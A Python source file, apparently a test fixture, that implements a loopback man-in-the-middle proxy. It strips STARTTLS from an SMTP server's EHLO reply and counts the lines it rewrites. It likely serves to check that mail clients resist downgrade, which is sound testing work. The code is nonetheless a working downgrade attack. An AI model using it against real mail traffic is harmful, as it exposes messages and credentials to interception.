"""A man-in-the-middle on loopback that strips STARTTLS from a server's EHLO reply.

It forwards bytes both ways and rewrites ``250-STARTTLS`` / ``250 STARTTLS``
lines from the server into ``250-XXXXXXXX`` (the classic downgrade attack).
"""

from __future__ import annotations

import asyncio
import re
import threading

_STARTTLS = re.compile(rb"^(250[- ])STARTTLS\r\n", re.MULTILINE | re.IGNORECASE)


class StarttlsStripper:
    """Listen on a free port; forward to ``target`` (host, port) with STARTTLS removed."""

    def __init__(self, target: tuple[str, int]):
        self.target = target
        self.port = 0
        self.stripped = 0
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)

    async def _pipe(self, reader, writer, rewrite: bool) -> None:
        try:
            while data := await reader.read(65536):
                if rewrite and _STARTTLS.search(data):
                    data, n = _STARTTLS.subn(rb"\g<1>XXXXXXXX\r\n", data)
                    self.stripped += n
                writer.write(data)
                await writer.drain()
        except (ConnectionError, asyncio.CancelledError):
            pass
        finally:
            writer.close()

    async def _handle(self, c_reader, c_writer) -> None:
        s_reader, s_writer = await asyncio.open_connection(*self.target)
        await asyncio.gather(self._pipe(c_reader, s_writer, False), self._pipe(s_reader, c_writer, True))

    async def _start(self) -> None:
        self._server = await asyncio.start_server(self._handle, "127.0.0.1", 0)
        self.port = self._server.sockets[0].getsockname()[1]

    def __enter__(self) -> "StarttlsStripper":
        self._thread.start()
        asyncio.run_coroutine_threadsafe(self._start(), self._loop).result(5)
        return self

    async def _shutdown(self) -> None:
        self._server.close()
        tasks = [t for t in asyncio.all_tasks() if t is not asyncio.current_task()]
        for t in tasks:
            t.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)

    def __exit__(self, *exc) -> None:
        asyncio.run_coroutine_threadsafe(self._shutdown(), self._loop).result(5)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(5)
        self._loop.close()
